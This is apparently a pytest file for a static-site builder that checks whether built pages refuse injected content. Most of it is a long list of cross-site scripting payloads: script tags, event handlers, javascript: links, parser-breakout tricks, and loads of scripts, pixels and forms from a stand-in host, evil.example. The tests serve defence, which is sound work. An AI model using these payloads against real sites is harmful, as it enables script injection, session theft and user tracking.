"""The last look at a built page: nothing gets by that neither the theme nor a section may bring.

Here the check is not there to refuse: whatever it lets through, `finish` must still see.
"""

import json
import re

import pytest

from drawn import ONE_PAGE
from reflectory import build as building
from reflectory.build import build

# One a line (⏎ is a line's end): what runs, loads, submits, moves or renames, and how it hides from who reads Markdown.
PAYLOADS = """\
<script>alert(1)</script>
<SCRIPT SRC=../notes.txt></SCRIPT>
<scr\x03ipt src="../notes.txt"></scr\x03ipt>
<scr\x02ipt>alert(1)</scr\x02ipt>
<script src=module.js></script>
<script src="../../assets/reflectory/reading.js?x"></script>
<script type=module src=//evil.example/x.js></script>
<script type="importmap">{"imports":{}}</script>
<script type="speculationrules">{"prefetch":[]}</script>
<script type="application/json" id="reflectory-words">{"box":{}}</script>
<svg><script>alert(1)</script></svg>
<svg><script href="x.js"/></svg>
<svg onload=alert(1)>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1)></svg>
<svg><use href="data:image/svg+xml,<svg id='x'/>#x"></svg>
<svg><foreignObject><b>x</b></foreignObject></svg>
<svg><a xlink:href="javascript:alert(1)">x</a></svg>
<svg><style>@import url(//evil.example)</style></svg>
<svg><image href="https://evil.example/x.png"></svg>
<math><mtext><img src=x onerror=alert(1)></mtext></math>
<math href="javascript:alert(1)">x</math>
<img src=x onerror=alert(1)>
<img src=x oNeRrOr=alert(1)>
<img src="x" title="a" onerror = alert(1)>
<img src=x:alert(1) onerror=eval(src)>
<img src="https://evil.example/pixel.png">
<img src="//evil.example/pixel.png">
<img src="/\\evil.example/pixel.png">
<img src="\thttps://evil.example/pixel.png">
<img src="data:image/svg+xml,<svg onload=alert(1)>">
<img srcset="https://evil.example/x.png 2x">
<input type=image src=//evil.example/x.png>
<body onload=alert(1)>
<html onclick=alert(1)>
<details open ontoggle=alert(1)>x</details>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<applet code=x></applet>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example">
<meta name="referrer" content="unsafe-url">
<meta charset="utf-7">
<link rel="stylesheet" href="https://evil.example/x.css">
<link rel=import href=x.html>
<link rel="manifest" href="other.webmanifest">
<style>*{background:url(//evil.example)}</style>
<p style="background:url(//evil.example)">x</p>
<form action="https://evil.example"><button>x</button></form>
<button formaction="javascript:alert(1)">x</button>
<isindex type=image src=1 onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<template><img src=x onerror=alert(1)></template>
<template shadowrootmode="open"><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<noscript><!-- </noscript><img src=x onerror=alert(1)> --></noscript>
<noscript><textarea></noscript><img src=x onerror=alert(1)></textarea></noscript>
<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>
<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
<plaintext>
<textarea></textarea><img src=x onerror=alert(1)>
<title></title><img src=x onerror=alert(1)>
<!--><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)>-->
<![CDATA[><img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><img src=x onerror=alert(1)>
<!DOCTYPE x [<!ENTITY y "z">]><img src=x onerror=alert(1)>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href=" &#1; javascript:alert(1)">x</a>
<a href="&#106;avascript&colon;alert(1)">x</a>
<a href="vbscript:x">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="blob:https://x/y">x</a>
<a href="file:///etc/passwd">x</a>
<a href="view-source:x">x</a>
<a href="//evil.example">x</a>
<a href="\\\\evil.example">x</a>
<a href="x" ping="https://evil.example">x</a>
[x](javascript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD4=)
![x](https://evil.example/x.png)
<javascript:alert(1)>
[x]: javascript:alert(1)⏎⏎[x]
# Head {: onclick=alert(1) }
x⏎{: onmouseover=alert(1) style="color:red" }
[x](index.md){: href=javascript:alert(1) }
<div data-module="another">x</div>
<div data-fill="workbook-copies"></div>
<reflection-box prompt="another" kind="text"><textarea></textarea></reflection-box>
<a data-link="nowhere" href="">x</a>
<x-element>x</x-element>
<List>x</List>
<div nonce="x">x</div>
<div slot="x">x</div>
<p is="x-p">x</p>
<div itemid="x">x</div>
<portal src="https://evil.example"></portal>
<fencedframe></fencedframe>
<keygen autofocus onfocus=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<table background="javascript:alert(1)"><tr><td>x</td></tr></table>
<blockquote cite="javascript:alert(1)">x</blockquote>""".split("\n")

HARMLESS = """\
**bold**, *slanted*, `<script>alert(1)</script>`, ~~gone~~
<b title="a < b">bold</b> <kbd>Ctrl</kbd> H<sub>2</sub>O <mark>seen</mark> <ruby>x<rt>y</rt></ruby>
[mail](mailto:a@example.org) [phone](tel:+15551234) [web](https://example.org/?a=b#c) [here](#listening)
| a | b |⏎| :- | -: |⏎| 1 | 2 |
!!! note "A note"⏎⏎    Its words.
<details><summary>More</summary>Words</details>
A comment <!-- of the author --> inside.
```js⏎alert("<script>")⏎```
&lt;script&gt;alert(1)&lt;/script&gt;
<dl><dt lang="es">x</dt><dd dir="rtl">y</dd></dl>
![A dot](data:image/png;base64,iVBORw0KGgo=)
<script and no more
a < b and c > d""".split("\n")


PAGE = "---\ntitle: A page\ndescription: x\nminutes: 1\n---\n\n# A page\n\n"


@pytest.fixture
def refused(module_dir, monkeypatch):
    """Build a module with a page for each of these texts, no check before it; return the texts that were refused."""

    def build_of(texts):
        monkeypatch.setattr(building, "check", lambda *_, **_known: [])
        folder = module_dir(ONE_PAGE)
        for number, text in enumerate(texts):
            (folder / f"content/en/page-{number}.md").write_text(PAGE + text.replace("⏎", "\n") + "\n")
        found = {problem.path: problem for problem in build(folder).problems}
        assert all(problem.message and problem.fix for problem in found.values())
        return [text for number, text in enumerate(texts) if f"content/en/page-{number}.md" in found]

    return build_of


def test_what_could_act_is_refused_wherever_it_hides(refused):
    assert refused(PAYLOADS) == PAYLOADS


def test_what_an_author_may_write_passes(refused):
    assert refused(HARMLESS) == []


def test_a_script_by_a_control_character_leaves_the_old_site_as_it_was(module_dir, monkeypatch):
    monkeypatch.setattr(building, "check", lambda *_, **_known: [])
    folder = module_dir(ONE_PAGE)
    build(folder)
    before = (folder / "site/index.html").read_bytes()
    (folder / "content/en/notes.txt").write_text("alert(1)")
    page = folder / "content/en/index.md"
    page.write_text(page.read_text() + '\n<scr\x03ipt src="../notes.txt"></scr\x03ipt>\n')
    # Where the character stays as a mark, the tag is one that nobody knows; where an engine drops it, a script.
    codes = {problem.code for problem in build(folder).problems}
    assert codes and codes <= {"script-unknown", "html-unknown"}
    assert (folder / "site/index.html").read_bytes() == before


def is_harmless(site):
    """Whether no page of a site holds a payload but in its title, where a browser reads words alone."""
    pages = [re.sub(r"<title>.*?</title>", "", page.read_text(), flags=re.DOTALL) for page in site.rglob("*.html")]
    return not any(
        re.search(r"<script[^>]*>alert|<script src=../notes|<img[^>]*onerror|href=.javascript", p) for p in pages
    )


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("site_name: Listening", "site_name: '</title><script>alert(1)</script>'"),
        ("site_name: Listening", "site_name: '<script src=../notes.txt></script>'"),
        ("  scope: /", "  scope: '\");alert(1)//'"),
        ("plugins:", "copyright: '<script>alert(1)</script>'\nplugins:"),
        ("plugins:", "site_description: '\"><script>alert(1)</script>'\nplugins:"),
        ("plugins:", "nav: [{'<script>alert(1)</script>': index.md}]\nplugins:"),
        ("plugins:", "nav: [{'<img src=x onerror=alert(1)>': [index.md]}]\nplugins:"),
        ("id: listening", "id: '\"><script>alert(1)</script>'"),
    ],
)
def test_what_could_act_in_the_settings_is_refused_though_it_stands_on_every_page(module_dir, monkeypatch, old, new):
    monkeypatch.setattr(building, "check", lambda *_, **_known: [])
    folder = module_dir(ONE_PAGE)
    file = folder / "mkdocs.yml"
    assert old in file.read_text()
    file.write_text(file.read_text().replace(old, new, 1))
    assert build(folder).problems or is_harmless(folder / "site")


@pytest.mark.parametrize("key", ["title", "url", "publisher", "authors", "year"])
@pytest.mark.parametrize(
    "value", ['"><script>alert(1)</script>', "javascript:alert(1)", "<img src=x onerror=alert(1)>"]
)
def test_a_document_and_front_matter_bring_nothing_that_acts(module_dir, monkeypatch, key, value):
    monkeypatch.setattr(building, "check", lambda *_, **_known: [])
    folder = module_dir(ONE_PAGE)
    fields = {"title": "A report", "url": "https://example.org/"} | {key: value}
    (folder / "content/links.yml").write_text(json.dumps({"report": fields}))
    page = folder / "content/en/index.md"
    page.write_text(page.read_text().replace("title: Listening", f"title: {json.dumps(value)}") + "\n[x][report]\n")
    assert build(folder).problems or is_harmless(folder / "site")
